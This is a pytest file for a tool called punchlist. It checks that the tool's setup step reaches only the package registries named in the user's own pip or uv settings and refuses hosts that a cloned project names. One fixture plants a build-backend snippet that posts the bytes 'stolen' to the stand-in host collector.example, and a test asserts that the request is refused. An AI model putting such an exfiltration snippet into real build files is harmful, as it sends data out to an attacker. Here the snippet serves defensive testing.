"""`punchlist setup` reaches the registries that the user's own settings name, whatever the project asks for."""

import os
import threading
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from ipaddress import ip_address

import pytest

import fresh_clone
import needs
from punchlist.adapters.egress.traffic import EgressLog
from punchlist.adapters.environments.registries import build_egress
from punchlist.adapters.environments.registry_settings import complete_environment, list_sources
from punchlist.adapters.process.registry_environment import list_registry_files


class Files(SimpleHTTPRequestHandler):
    def do_GET(self) -> None:
        self.server.got.append(self.path)
        super().do_GET()

    def log_message(self, *words: object) -> None:
        pass


@pytest.fixture
def registries(tmp_path):
    """Two registries with the same package; each keeps what was asked of it."""
    made = []
    for name in ("own", "foreign"):
        wheels = tmp_path / name / "simple" / "text-folding"
        wheels.parent.mkdir(parents=True)
        fresh_clone.write_registry(wheels)
        server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Files, directory=tmp_path / name))
        server.got = []
        threading.Thread(target=server.serve_forever, daemon=True).start()
        made.append(server)
    yield made
    for server in made:
        server.shutdown()
        server.server_close()


BACKEND = """
import urllib.request
def attempt(url):
    try: urllib.request.urlopen(url, data=b"stolen", timeout=5)
    except OSError: pass
attempt("http://collector.example/")
"""


@pytest.mark.parametrize(
    "place", ["config/pip/pip.conf", *needs.rarely(".pip/pip.conf", "config/uv/uv.toml", "")]
)
def test_a_project_that_names_another_registry_or_host_does_not_reach_it(
    repo, make_punchlist, registries, tmp_path, place
):
    """The user's own is named in a file, or in a variable."""
    own, foreign = (f"127.0.0.1:{server.server_address[1]}" for server in registries)
    requirements = f"--extra-index-url http://{foreign}/simple\ntext-folding\n"
    backend = BACKEND + fresh_clone.BACKEND
    theirs = {"pip.conf": f"[global]\nindex-url = http://{foreign}/simple\n", "backend.py": backend}
    repo.commit({**fresh_clone.FILES, **theirs, "requirements.txt": requirements})
    punchlist = make_punchlist(repo.root)
    for name in [name for name in os.environ if name.startswith(("PIP_", "UV_"))]:
        del punchlist.env[name]
    punchlist.env |= {"HOME": str(tmp_path / "home"), "PIP_RETRIES": "0"}
    punchlist.env["XDG_CONFIG_HOME"] = str(tmp_path / "home/config")
    if place:
        settings = tmp_path / "home" / place
        settings.parent.mkdir(parents=True)
        section = "index-url" if place.endswith(".toml") else "[global]\nindex-url"
        quote = '"' if place.endswith(".toml") else ""
        settings.write_text(f"{section} = {quote}http://{own}/simple{quote}\n")
    else:
        punchlist.env["PIP_INDEX_URL"] = f"http://{own}/simple"
    made = punchlist("setup", "--yes")
    assert made.returncode == 0, made.stderr
    assert f"refused: {foreign} (not listed); list it in setup.hosts" in made.stderr
    assert "refused: collector.example:80 (not listed)" in made.stderr
    assert "/simple/text-folding/" in registries[0].got
    assert [path for path in registries[1].got if "text-folding" in path] == []


def allowed(environment, installer="pip", hosts=()):
    known = complete_environment(environment, installer)
    return [str(rule) for rule in build_egress(known, hosts, installer, EgressLog()).policy.rules]


PYPI = ["pypi.org:443", "files.pythonhosted.org:443"]


@pytest.mark.parametrize(
    ("installer", "environment", "expected"),
    [
        ("pip", {}, PYPI),
        ("uv", {}, PYPI),
        ("pip", {"PIP_INDEX_URL": "https://ada:pw@pip.corp/simple"}, ["pip.corp:443"]),
        (
            "pip",
            {"PIP_EXTRA_INDEX_URL": "https://a.corp/x http://b.corp:8080/y"},
            ["a.corp:443", "b.corp:8080", *PYPI],
        ),
        ("pip", {"PIP_NO_INDEX": "1", "PIP_FIND_LINKS": "/wheels"}, []),
        ("uv", {"UV_DEFAULT_INDEX": "https://uv.corp/simple"}, ["uv.corp:443"]),
        ("uv", {"UV_INDEX": "corp=https://uv.corp/simple"}, ["uv.corp:443", *PYPI]),
        ("uv", {"PIP_INDEX_URL": "https://pip.corp/simple"}, ["pip.corp:443"]),
        ("pip", {"UV_DEFAULT_INDEX": "https://uv.corp/simple"}, ["uv.corp:443"]),
        (
            "uv",
            {"PIP_INDEX_URL": "https://pip.corp/x", "UV_INDEX": "c=https://uv.corp/y"},
            ["uv.corp:443", *PYPI],
        ),
        ("pip", {"PIP_INDEX_URL": "https://pypi.org/simple"}, PYPI),
        ("pip", {"PIP_PROXY": "http://proxy.corp:3128"}, PYPI),
        ("pip", {"HTTPS_PROXY": "http://proxy.corp:3128"}, PYPI),
    ],
)
def test_the_registries_are_those_of_the_user_s_variables(installer, environment, expected):
    nowhere = {"XDG_CONFIG_HOME": "/nowhere"}
    assert allowed({**nowhere, **environment}, installer) == expected


def test_the_registries_are_those_of_the_user_s_files(tmp_path):
    (tmp_path / "pip").mkdir()
    (tmp_path / "uv").mkdir()
    pip = "[global]\nindex-url = https://pip.corp/simple\nproxy = http://proxy.corp\n[install]\nextra-index-url =\n  https://a.corp/x\n  https://b.corp/y\n"
    (tmp_path / "pip/pip.conf").write_text(pip)
    uv = 'http-proxy = "http://proxy.corp"\n[[index]]\nname = "c"\nurl = "https://uv.corp/simple"\ndefault = true\n[pip]\nextra-index-url = ["https://d.corp/x"]\n'
    (tmp_path / "uv/uv.toml").write_text(uv)
    home = {"XDG_CONFIG_HOME": str(tmp_path)}
    assert allowed(home, "pip", ["e.corp:8443"]) == [
        "pip.corp:443",
        "a.corp:443",
        "b.corp:443",
        "e.corp:8443",
    ]
    assert allowed(home, "uv") == ["uv.corp:443", "d.corp:443"]


def write_settings(folder, **texts):
    """Write files of settings; return the variable that leads to them."""
    for name, text in texts.items():
        (folder / name).mkdir()
        (folder / name / {"pip": "pip.conf", "uv": "uv.toml"}[name]).write_text(text)
    return {"XDG_CONFIG_HOME": str(folder)}


def test_uv_is_told_of_the_registries_of_pip_where_its_own_settings_name_none(tmp_path):
    text = "[global]\nindex-url = https://pip.corp/x\ncert = /ca.pem\n[install]\nextra-index-url =\n  https://a.corp/y\n  https://b.corp/z\nfind-links = ~/w /v\ntrusted-host = a.corp\n"
    files = write_settings(tmp_path, pip=text, uv="offline = false\n[pip]\nstrict = true\n")
    made = complete_environment(files, "uv")
    assert {name: made[name] for name in made if name.startswith(("UV_", "SSL_"))} == {
        "UV_DEFAULT_INDEX": "https://pip.corp/x",
        "UV_INDEX": "https://a.corp/y https://b.corp/z",
        "UV_FIND_LINKS": f"{os.environ['HOME']}/w,/v",
        "UV_INSECURE_HOST": "a.corp",
        "SSL_CERT_FILE": "/ca.pem",
    }
    wheels = {**files, "PIP_NO_INDEX": "1", "PIP_FIND_LINKS": "/v"}
    assert complete_environment(wheels, "uv")["UV_OFFLINE"] == "1"
    own = complete_environment({**files, "UV_INDEX_URL": "https://uv.corp"}, "uv")
    assert [name for name in own if name.startswith("UV_")] == ["UV_INDEX_URL"]


def test_pip_is_told_of_the_registries_of_uv_where_its_own_settings_name_none(tmp_path):
    text = 'find-links = ["/w"]\n[[index]]\nurl = "https://a.corp"\nexplicit = true\n[[index]]\nname = "b"\nurl = "https://b.corp"\n[[index]]\nurl = "https://c.corp"\ndefault = true\n'
    files = write_settings(tmp_path, uv=text, pip="[global]\nretries = 1\n")
    made = complete_environment(files, "pip")
    assert {
        name: made[name] for name in made if name.startswith("PIP_") and name != "PIP_CERT"
    } == {
        "PIP_INDEX_URL": "https://c.corp",
        "PIP_EXTRA_INDEX_URL": "https://b.corp",
        "PIP_FIND_LINKS": "/w",
    }
    assert list_sources(files, "uv") == ["https://a.corp", "https://b.corp", "https://c.corp", "/w"]


def test_a_user_who_tells_pip_to_read_no_file_is_obeyed(tmp_path):
    files = write_settings(tmp_path, pip="[global]\nindex-url = https://pip.corp/x\n")
    assert allowed({**files, "PIP_CONFIG_FILE": "/dev/null"}) == PYPI


def test_a_mirror_in_a_folder_is_seen_with_the_files_that_its_pages_link_to(tmp_path):
    for name in ("mirror/simple", "mirror/packages", "mirror/private", "wheels"):
        (tmp_path / name).mkdir(parents=True)
    found = list_registry_files(
        {"XDG_CONFIG_HOME": "/nowhere", "PIP_FIND_LINKS": str(tmp_path / "wheels")},
        [f"file://{tmp_path}/mirror/simple https://a.corp"],
    )
    below = [path.relative_to(tmp_path) for path in found if path.is_relative_to(tmp_path)]
    assert [*map(str, below)] == ["wheels", "mirror/simple", "mirror/packages"]


@pytest.mark.parametrize("installer", ["pip", "uv"])
def test_pypi_may_lead_to_a_mirror_inside_and_hosts_of_the_settings_may_not(installer):
    policy = build_egress(
        {"XDG_CONFIG_HOME": "/nowhere"}, ["a.corp"], installer, EgressLog()
    ).policy
    mirror = ip_address("10.0.0.5")
    for host in ("pypi.org", "files.pythonhosted.org"):
        assert policy.allows_inside(mirror, 443, policy.find_rules(host, 443))
    assert not policy.allows_inside(mirror, 443, policy.find_rules("a.corp", 443))
